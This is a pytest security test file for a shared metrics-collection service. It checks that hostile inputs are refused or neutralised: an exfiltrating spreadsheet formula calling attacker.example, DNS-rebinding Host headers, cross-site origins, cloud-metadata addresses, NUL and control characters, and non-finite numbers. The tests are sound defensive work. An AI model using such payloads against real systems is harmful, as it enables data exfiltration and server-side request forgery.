"""A hostile user or target of a shared deployment, against the real service (issue 15).

Each test reproduces one way a team or a target could break the deployment for itself or for
others: secrets echoed back, windows that can never be stopped, stored values that break reads.
"""

import base64
import csv
import io
import json
import os
import shutil
import subprocess
import sys
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest
from prometheus_client.parser import text_string_to_metric_families

from specdec_collector.core.report import csv_cell
from tests.conftest import ADMIN_KEY
from tests.support import clients
from tests.support.collector import NewTeam, Team, run_collector, serve_collector
from tests.support.metrics_server import serve_metrics
from tests.support.netns_probe import METADATA_TARGETS
from tests.support.payloads import InstanceCounters, drafts_payload, fixture, vllm_payload
from tests.support.waiting import wait_for

SECRET = "tok-s3cret-never-shown"
SPEC = "vllm:spec_decode_num_drafts_total"


def _every_read(api: httpx.Client, window: str, target: str) -> list[httpx.Response]:
    paths = (f"/windows/{window}", f"/windows/{window}/results/{target}",
             f"/windows/{window}/report", f"/windows/{window}/samples",
             f"/windows/{window}/samples?format=csv", "/windows", "/metrics")  # fmt: skip
    return [api.get(path) for path in paths]


@pytest.mark.parametrize(
    "value",
    [f" Bearer {SECRET}", f"Bearer {SECRET} ", f"Bearer {SECRET}\t", f"\x0bBearer {SECRET}",
     f"Bearer {SECRET}\x0c", f"Bearer {SECRET}-€", f"Bearer {SECRET}\x7f", f"Bearer\x01{SECRET}"],
)  # fmt: skip
def test_a_header_value_outside_the_http_grammar_is_a_422_that_never_shows_it(
    api: httpx.Client, value: str
) -> None:
    with serve_metrics(body=drafts_payload(10)) as server:
        target = {"url": server.url, "headers": {"Authorization": value}}
        answer = api.post("/windows/hdr/start", json={"targets": [target]})
        assert server.count() == 0
    assert answer.status_code == 422, answer.text
    assert SECRET not in answer.text
    error = answer.json()["detail"][0]
    assert error["loc"] == ["body", "targets"]
    assert "target 0: header Authorization needs" in error["msg"]
    assert api.get("/windows/hdr").status_code == 404


@pytest.mark.parametrize(
    "url",
    ["http://{target}/metrics\u0001", "http://{target}/metrics?a=\u007f",
     "http://{target}/met rics", "http://{target}/met\u00a0rics", "http://{target}/caf\u00e9"],
)  # fmt: skip
def test_a_url_with_control_characters_is_a_422(api: httpx.Client, url: str) -> None:
    with serve_metrics(body=drafts_payload(10)) as server:
        answer = api.post(
            "/windows/url/start", json={"targets": [url.format(target=server.target)]}
        )
    assert answer.status_code == 422, answer.text
    assert answer.json()["detail"][0]["loc"][:2] == ["body", "targets"]
    assert api.get("/windows/url").status_code == 404


def _hostile_payloads() -> dict[str, str]:
    nospec = fixture("vllm_v1_dp1_nospec.txt")
    created = vllm_payload([InstanceCounters(100, 300, [80, 60, 40])])
    return {
        "long_label": vllm_payload(
            [InstanceCounters(100, 300, [80, 60, 40], extra_labels={"pod": "p" * 5000})]
        ),
        "nul_in_line": nospec + f'{SPEC}{{engine="0\x00"}} 4 5 6 7\n',
        "inf_created": created.replace("1796032661.25", "+Inf"),
        "nan_created": created.replace("1796032661.25", "NaN"),
        "huge_counters": vllm_payload(
            [InstanceCounters(17 * 10**307, 17 * 10**307, [17 * 10**307], engine=e) for e in "01"]
        ),
    }


def _before(kind: str) -> str:
    """What the target serves at start: the hostile payload, or for huge counters none yet."""
    if kind == "huge_counters":
        return vllm_payload([InstanceCounters(0, 0, [0], engine=e) for e in "01"])
    return _hostile_payloads()[kind]


@pytest.mark.parametrize("kind", sorted(_hostile_payloads()))
def test_a_hostile_target_cannot_make_a_window_unstoppable_or_unreadable(
    api: httpx.Client, team: Team, kind: str
) -> None:
    """On PostgreSQL these broke the store (index row size, NUL, JSON Infinity); on both
    backends huge counters summed to inf and every later read of the team answered 500."""
    with serve_metrics(body=_before(kind).encode()) as server:
        started = api.post(
            f"/windows/{kind}/start", json={"targets": [server.target], "sample_interval_s": 0.5}
        )
        assert started.status_code == 201, started.text
        server.replace(_hostile_payloads()[kind].encode())
        server.wait_served()
        stopped = api.post(f"/windows/{kind}/stop")
    assert stopped.status_code == 200, stopped.text
    assert stopped.json()["state"] == "closed"
    result = stopped.json()["targets"][0]["result"]
    if kind in ("inf_created", "nan_created"):
        assert result["error"] == "No spec decode activity detected during benchmark window"
    else:
        assert result["status"] == "na"
        assert "\x00" not in json.dumps(result)
    for answer in _every_read(api, kind, server.target):
        assert answer.status_code == 200, (answer.request.url, answer.text)


def test_an_admin_force_closes_a_window_without_a_final_scrape(
    api: httpx.Client, team: Team
) -> None:
    with serve_metrics(body=drafts_payload(10)) as server:
        assert api.post("/windows/stuck/start", json={"targets": [server.target]}).is_success
        scraped = server.count()
        refused = api.post("/windows/stuck/force-close")
        assert refused.status_code == 403
        assert refused.json() == {"detail": "only admin keys may do this"}
        admin = {"Authorization": f"Bearer {ADMIN_KEY}"}
        closed = clients.post(
            f"{team.base_url}/windows/stuck/force-close",
            params={"team": team.name}, headers=admin, timeout=30,
        )  # fmt: skip
        assert server.count() == scraped  # no final scrape
    assert closed.status_code == 200, closed.text
    window = closed.json()
    assert (window["state"], window["stopped_by"]) == ("closed", "env:1")
    assert window["targets"][0]["result"]["status"] == "na"
    assert window["targets"][0]["result"]["error"] == (
        "[after] Window force-closed by an admin: no final scrape was taken"
    )
    assert api.post("/windows/stuck/stop").json() == window  # closed for good


def test_a_target_with_hundreds_of_thousands_of_series_is_na_and_others_are_measured(
    api: httpx.Client,
) -> None:
    """12 MiB of distinct spec-decode series: read off the event loop, cut at the series cap,
    never stored (it cost ~30 CPU-s, 450 MB and 50 MB of database per window)."""
    lines = "".join(f'{SPEC}{{p="{i}"}} 1\n' for i in range(300_000))
    with (
        serve_metrics(body=(fixture("vllm_v1_dp1_nospec.txt") + lines).encode()) as hostile,
        serve_metrics(body=drafts_payload(10)) as healthy,
    ):
        started = api.post(
            "/windows/flood/start", json={"targets": [hostile.target, healthy.target]}
        )
        healthy.replace(drafts_payload(50))
        stopped = api.post("/windows/flood/stop")
    assert started.status_code == 201, started.text
    flooded, measured = stopped.json()["targets"]
    assert (
        flooded["before_error"]
        == flooded["result"]["error"].removeprefix("[before] ").split("; [after] ")[0]
    )
    assert flooded["before_error"].endswith(
        "more than 4096 spec-decode series (SPECDEC_MAX_SERIES_PER_TARGET)"
    )
    assert measured["result"]["status"] == "ok"
    assert measured["result"]["data"]["num_drafts"] == 40


@pytest.mark.slow
def test_metadata_addresses_in_every_form_are_refused_directly_and_through_a_proxy(
    tmp_path: Path,
) -> None:
    """Inside a private network namespace (loopback only): were one not refused, it could
    reach nothing real. Through a proxy, numeric forms went to the proxy unchecked."""
    if shutil.which("unshare") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("CI must have util-linux's unshare(1) (Debian: util-linux)")
        pytest.skip("needs unshare(1) (util-linux) for a private network namespace")
    allowed = subprocess.run(["unshare", "-n", "true"], capture_output=True, text=True)
    if allowed.returncode != 0:
        # Not root, or a container without CAP_SYS_ADMIN: nothing to install would change it.
        pytest.skip(f"cannot make a network namespace here: {allowed.stderr.strip()}")
    probe = subprocess.run(
        ["unshare", "-n", sys.executable, "-m", "tests.support.netns_probe", str(tmp_path)],
        cwd=Path(__file__).parents[2], capture_output=True, text=True, timeout=180,
    )  # fmt: skip
    assert probe.returncode == 0, probe.stderr[-3000:]
    report = json.loads(probe.stdout.strip().splitlines()[-1])
    for mode in ("direct", "proxy"):
        answers = report[mode]
        for target in METADATA_TARGETS:
            status, message = answers[target]
            assert status == 422, (mode, target, message)
            assert (
                "cloud metadata" in message or "0.0.0.0/8" in message or "unspecified" in message
            ), (mode, target, message)
    *_, (control_status, _) = report["direct"].values()
    assert control_status == 201  # a loopback target still starts
    # Through the proxy, only the one ordinary name was ever sent (its baseline scrape).
    assert report["proxied_requests"] == ["http://vllm.example:8000/metrics"]


def test_keyless_metrics_name_no_team_window_or_target(new_team: NewTeam) -> None:
    one, other = new_team(), new_team()
    with serve_metrics(body=drafts_payload(0)) as server:
        for team in (one, other):
            with team.client() as api:
                api.post("/windows/secret-run/start", json={"targets": [server.target]})
                server.replace(drafts_payload(10))
                api.post("/windows/secret-run/stop")
                server.replace(drafts_payload(0))

    def teams_shown(headers: dict[str, str]) -> set[str]:
        text = clients.get(f"{one.base_url}/metrics", headers=headers, timeout=30).text
        return {
            sample.labels["team"]
            for family in text_string_to_metric_families(text)
            for sample in family.samples
            if family.name.startswith("specdec_window_")
        }

    keyless = clients.get(f"{one.base_url}/metrics", timeout=30)
    assert keyless.status_code == 200 and "specdec_open_windows" in keyless.text
    for secret in ("secret-run", one.name, other.name, server.target):
        assert secret not in keyless.text
    assert teams_shown(one.headers) == {one.name}
    assert teams_shown(other.headers) == {other.name}
    assert {one.name, other.name} <= teams_shown({"Authorization": f"Bearer {ADMIN_KEY}"})
    bad = clients.get(f"{one.base_url}/metrics", headers={"Authorization": "Bearer nope"})
    assert bad.status_code == 401


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_non_finite_numbers_in_a_start_body_are_a_422(api: httpx.Client, number: str) -> None:
    """The 422 echoed its input, which JSON cannot hold: the answer was a 500."""
    with serve_metrics(body=drafts_payload(10)) as server:
        bodies = {
            "sample_interval_s": f'{{"targets": ["{server.target}"], "sample_interval_s": {number}}}',
            "targets": f'{{"targets": [{{"host_ip": "127.0.0.1", "host_port": {number}}}]}}',
            "labels": f'{{"targets": ["{server.target}"], "labels": {{"a": {number}}}}}',
        }
        for field, body in bodies.items():
            answer = api.post(
                "/windows/nan/start", content=body, headers={"Content-Type": "application/json"}
            )
            assert answer.status_code == 422, (body, answer.text)
            assert answer.json()["detail"][0]["loc"][:2] == ["body", field]


@pytest.mark.parametrize(
    "cursor",
    [["2026-11-30T00:00:00+00:00", 10**30], ["2026-11-30T00:00:00+00:00", 1e308],
     ["2026-11-30T00:00:00+00:00", -1], ["2026-11-30T00:00:00", 5], ["x", 5], [5, 5],
     ["2026-11-30T00:00:00+00:00", True], ["2026-11-30T00:00:00+00:00", 2.5]],
)  # fmt: skip
def test_a_tampered_cursor_is_a_422(api: httpx.Client, cursor: list[object]) -> None:
    token = base64.urlsafe_b64encode(json.dumps(cursor).encode()).decode().rstrip("=")
    answer = api.get("/windows", params={"cursor": token})
    assert answer.status_code == 422, answer.text
    assert answer.json()["detail"][0] == {
        "loc": ["query", "cursor"], "msg": "cursor is not one this service gave",
        "type": "value_error",
    }  # fmt: skip


def test_control_characters_in_window_labels_and_label_filters_are_a_422(api: httpx.Client) -> None:
    """On PostgreSQL a NUL in a stored label broke every label filter of the team."""
    with serve_metrics(body=drafts_payload(10)) as server:
        for labels in ({"run": "a\x00b"}, {"r\x00n": "a"}, {"run": "a\nb"}):
            answer = api.post(
                "/windows/lbl/start", json={"targets": [server.target], "labels": labels}
            )
            assert answer.status_code == 422, answer.text
            assert answer.json()["detail"][0]["loc"][:2] == ["body", "labels"]
        assert api.post(
            "/windows/lbl/start", json={"targets": [server.target], "labels": {"run": "ok"}}
        ).is_success
    for label in ("run=a\x00b", "r\x00n=a"):
        answer = api.get("/windows", params={"label": label})
        assert answer.status_code == 422, answer.text
        assert answer.json()["detail"][0]["loc"] == ["query", "label"]
    assert [w["id"] for w in api.get("/windows", params={"label": "run=ok"}).json()["windows"]] == [
        "lbl"
    ]


@pytest.mark.slow
def test_logs_at_info_stay_quiet_idle_and_with_a_stuck_target(tmp_path: Path) -> None:
    """APScheduler logged each lease scan (1.5 KB/s idle) and each skipped sampling run."""
    env = {"SPECDEC_SCRAPE_TIMEOUT_S": "1.5"}
    with (
        run_collector(f"sqlite:///{tmp_path}/quiet.db", tmp_path, **env) as collector,
        serve_metrics(body=drafts_payload(10)) as slow,
    ):
        api = clients.client(base_url=collector.base_url, timeout=30)
        started = api.post(
            "/windows/q/start", json={"targets": [slow.target], "sample_interval_s": 0.5}
        )
        assert started.status_code == 201
        slow.delay_s = 3.0  # every sample now times out, and runs are skipped meanwhile
        wait_for(lambda: True if slow.count() >= 3 else None, "three sampling scrapes")
        api.post("/windows/q/stop")
    lines = collector.stderr_text.splitlines()
    assert not [line for line in lines if "apscheduler" in line]
    assert not [line for line in lines if "Traceback" in line]


def test_open_mode_answers_only_this_machines_names_and_pages(tmp_path: Path) -> None:
    """Without keys, on loopback: a web page could reach the service by DNS rebinding (its own
    name resolving to 127.0.0.1) or stop a window with a cross-site form post."""
    with (
        serve_collector(f"sqlite:///{tmp_path}/open.db") as base_url,
        serve_metrics(body=drafts_payload(10)) as server,
    ):
        api = clients.client(base_url=base_url, timeout=30)
        assert api.post("/windows/o/start", json={"targets": [server.target]}).status_code == 201
        port = base_url.rsplit(":", 1)[1]
        rebound = api.get("/windows/o", headers={"Host": f"attacker.example:{port}"})
        assert rebound.status_code == 403
        assert rebound.json()["detail"].startswith("Host is not this machine")
        cross_site = api.post("/windows/o/stop", headers={"Origin": "http://attacker.example"})
        assert cross_site.status_code == 403
        assert api.post("/windows/o/stop", headers={"Origin": "null"}).status_code == 403
        # A page of another server of this machine (a dev server, a notebook) is cross-site.
        other_port = {"Origin": f"http://localhost:{int(port) + 1}"}
        assert api.post("/windows/o/stop", headers=other_port).status_code == 403
        assert api.get("/windows/o").json()["state"] == "open"
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", "[::1]"):
            assert api.get("/windows/o", headers={"Host": host}).status_code == 200
        own_page = {"Origin": base_url}
        assert api.post("/windows/o/stop", headers=own_page).json()["state"] == "closed"


def test_a_loopback_service_with_keys_answers_any_host_a_reverse_proxy_sends(
    tmp_path: Path,
) -> None:
    """The open mode's Host check is for a service without keys: once it has one, a same-host
    reverse proxy's public name is answered (the keys protect it)."""
    keys = {"api_keys": "team-a:write:proxied-key-0123456789"}
    with serve_collector(f"sqlite:///{tmp_path}/keyed.db", **keys) as base_url:
        public = {"Host": "collector.example.com"}
        api = clients.client(base_url=base_url, timeout=30)
        answers = {path: api.get(path, headers=public) for path in ("/healthz", "/metrics", "/ui/")}
        keyless_call = api.get("/windows", headers=public)
    assert {path: a.status_code for path, a in answers.items()} == dict.fromkeys(answers, 200)
    assert keyless_call.status_code == 401  # the key is asked for, not the Host refused


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    api: httpx.Client,
) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    with serve_metrics(body=drafts_payload(10)) as server:
        body = {"targets": [server.target], "labels": {formula: "1"}}
        assert api.post("/windows/csv/start", json=body).status_code == 201
        api.post("/windows/csv/stop")
    rows = list(csv.reader(io.StringIO(api.get("/windows", params={"format": "csv"}).text)))
    header, (row,) = rows[0], rows[1:]
    assert row[header.index("labels")] == "'" + f"{formula}=1"
    for text in ("+cmd", "-1+1", "@SUM(A1)", "\tx", "=1"):
        assert csv_cell(text) == "'" + text
    for kept in ("a=1", "127.0.0.1:80", "", 5, -1.5):
        assert csv_cell(kept) == kept


def test_a_teams_sampling_is_held_to_its_scrape_budget(database_url: str) -> None:
    """100 windows x 256 targets at 0.5 s were 51,200 scrapes/s, all aimable at one host."""
    with ExitStack() as stack:
        base_url = stack.enter_context(
            serve_collector(database_url, max_scrapes_per_second_per_team=10)
        )
        servers = [stack.enter_context(serve_metrics(body=drafts_payload(1))) for _ in range(4)]
        targets = [server.target for server in servers]
        api = clients.client(base_url=base_url, timeout=30)

        def start(window: str, count: int, interval_s: float | None) -> httpx.Response:
            body = {"targets": targets[:count], "sample_interval_s": interval_s}
            return api.post(f"/windows/{window}/start", json=body)

        assert start("a", 4, 0.5).status_code == 201  # 4 / 0.5 = 8 scrapes/s
        assert start("b", 1, 0.5).status_code == 201  # 8 + 2 = 10: at the budget
        over = start("c", 1, 1.0)  # 10 + 1 = 11
        assert over.status_code == 429
        assert over.json()["detail"] == (
            "team default's sampled windows would scrape 11 targets per second with this one, "
            "more than 10 (SPECDEC_MAX_SCRAPES_PER_SECOND_PER_TEAM); sample less often or stop one"
        )
        assert api.get("/windows/c").status_code == 404  # nothing stored
        assert start("d", 4, None).status_code == 201  # unsampled: no background scrapes
        api.post("/windows/a/stop")
        assert start("c", 1, 1.0).status_code == 201  # 2 + 1
